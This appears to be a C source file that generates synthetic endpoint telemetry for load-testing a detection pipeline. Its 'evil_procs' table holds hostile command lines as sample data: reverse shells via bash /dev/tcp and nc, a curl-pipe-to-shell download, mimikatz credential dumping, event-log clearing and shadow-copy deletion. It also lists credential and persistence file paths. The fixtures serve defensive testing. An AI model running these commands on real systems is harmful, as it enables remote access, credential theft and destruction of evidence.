/* SPDX-License-Identifier: Apache-2.0 */
/*
 * gen: synthetic endpoint telemetry for load tests and benchmarks.
 * Not part of the pipeline; a small xorshift generator over fixed tables,
 * so runs are reproducible and cost next to nothing per event.
 */
#include "kta/gen.h"
#include "kta/hit.h"

#include <stdio.h>
#include <string.h>

#define N(a) (sizeof(a) / sizeof((a)[0]))

static uint64_t next(struct kta_gen *g)
{
    /* xorshift64* */
    g->state ^= g->state >> 12;
    g->state ^= g->state << 25;
    g->state ^= g->state >> 27;
    return g->state * 2685821657736338717ULL;
}

static uint32_t pick(struct kta_gen *g, uint32_t n)
{
    return (uint32_t)((next(g) >> 32) % n);
}

void kta_gen_init(struct kta_gen *g, uint64_t seed, double malicious)
{
    g->state = seed * 0x9E3779B97F4A7C15ULL + 0x2545F4914F6CDD1DULL;
    if (!g->state)
        g->state = 1;
    g->malicious = malicious;
    g->n = 0;
}

static const char *users[] = { "alice", "bob", "carol", "dave", "svc-backup", "root", "www-data",
                               "postgres", "eve", "mallory" };
static const char *benign_procs[][2] = {
    { "/usr/bin/python3", "python3 /opt/app/worker.py --queue default" },
    { "/usr/sbin/sshd", "sshd: alice [priv]" },
    { "/usr/bin/ls", "ls -la /var/log" },
    { "/usr/bin/git", "git pull --ff-only origin main" },
    { "/usr/lib/postgresql/15/bin/postgres", "postgres: checkpointer" },
    { "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule" },
    { "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "firefox.exe -contentproc --channel=1" },
    { "/usr/bin/curl", "curl -fsS https://updates.example.com/manifest.json -o /tmp/m.json" },
    { "/usr/bin/systemctl", "systemctl status nginx" },
    { "C:\\Windows\\explorer.exe", "explorer.exe" },
};
/* Each matches one of the default rules in rules/. */
static const char *evil_procs[][2] = {
    { "/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
    { "/usr/bin/curl", "curl -s http://203.0.113.9/x.sh | sh" },
    { "C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit" },
    { "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security" },
    { "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 9001" },
    { "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet" },
};
static const char *files[] = { "/etc/hosts", "/var/log/syslog", "/home/alice/.bashrc",
                               "C:\\Users\\bob\\Documents\\report.docx", "/tmp/build.log",
                               "/opt/app/config.yaml" };
static const char *evil_files[] = { "/etc/shadow", "/root/.ssh/authorized_keys",
                                    "/etc/cron.d/persist" };
static const char *severities[] = { "informational", "low", "low", "medium", "low",
                                    "informational", "low", "medium" };

static void ip(struct kta_gen *g, char *out, size_t size, int external)
{
    uint64_t r = next(g);
    if (external)
        snprintf(out, size, "198.51.100.%u", (unsigned)(r % 254 + 1));
    else
        snprintf(out, size, "10.%u.%u.%u", (unsigned)(r >> 8 & 255), (unsigned)(r >> 16 & 255),
                 (unsigned)((r >> 24 & 255) % 254 + 1));
}

static void str_field(struct kta_buf *out, const char *name, const char *value)
{
    kta_buf_printf(out, ",\"%s\":", name);
    kta_json_quote(out, value, strlen(value));
}

int kta_gen_event(struct kta_gen *g, struct kta_buf *out)
{
    int evil = (double)(next(g) >> 11) / 9007199254740992.0 < g->malicious;
    uint32_t kind = pick(g, 4);
    char a[32], b[32];

    g->n++;
    kta_buf_printf(out, "{\"host\":\"endpoint%04u\",\"ts\":%llu", pick(g, 5000),
                   1764230400000ULL + g->n * 7);
    switch (kind) {
    case 0: { /* process */
        const char *(*p)[2] = evil ? &evil_procs[pick(g, N(evil_procs))]
                                   : &benign_procs[pick(g, N(benign_procs))];
        kta_buf_appends(out, ",\"event_type\":\"process\"");
        str_field(out, "user", users[pick(g, N(users))]);
        kta_buf_printf(out, ",\"process\":{\"pid\":%u,\"ppid\":%u", pick(g, 60000) + 100,
                       pick(g, 5000) + 1);
        str_field(out, "name", strrchr((*p)[0], '/') ? strrchr((*p)[0], '/') + 1
                               : strrchr((*p)[0], '\\') ? strrchr((*p)[0], '\\') + 1 : (*p)[0]);
        str_field(out, "executable", (*p)[0]);
        str_field(out, "command_line", (*p)[1]);
        kta_buf_appends(out, "}");
        break;
    }
    case 1: /* network */
        ip(g, a, sizeof(a), 0);
        ip(g, b, sizeof(b), 1);
        kta_buf_appends(out, ",\"event_type\":\"network\"");
        kta_buf_printf(out, ",\"src_ip\":\"%s\",\"src_port\":%u,\"dst_ip\":\"%s\",\"dst_port\":%u,"
                       "\"protocol\":\"tcp\",\"bytes_out\":%u", a, pick(g, 30000) + 32768,
                       evil ? "203.0.113.7" : b, evil ? 4444 : (unsigned[]){ 443, 80, 53, 22 }[pick(g, 4)],
                       pick(g, 100000));
        break;
    case 2: /* login */
        ip(g, a, sizeof(a), evil);
        kta_buf_appends(out, ",\"event_type\":\"login\"");
        str_field(out, "user", users[pick(g, N(users))]);
        kta_buf_printf(out, ",\"src_ip\":\"%s\",\"method\":\"%s\",\"result\":\"%s\"", a,
                       pick(g, 2) ? "ssh" : "password", evil ? "failure" : "success");
        if (evil)
            kta_buf_printf(out, ",\"failed_attempts\":%u", 20 + pick(g, 200));
        break;
    default: /* file */
        kta_buf_appends(out, ",\"event_type\":\"file\"");
        str_field(out, "user", users[pick(g, N(users))]);
        str_field(out, "path", evil ? evil_files[pick(g, N(evil_files))] : files[pick(g, N(files))]);
        str_field(out, "action", evil ? "write" : (pick(g, 3) ? "read" : "write"));
        break;
    }
    str_field(out, "severity", evil ? (pick(g, 2) ? "high" : "critical") : severities[pick(g, N(severities))]);
    kta_buf_append(out, "}", 1);
    return evil;
}
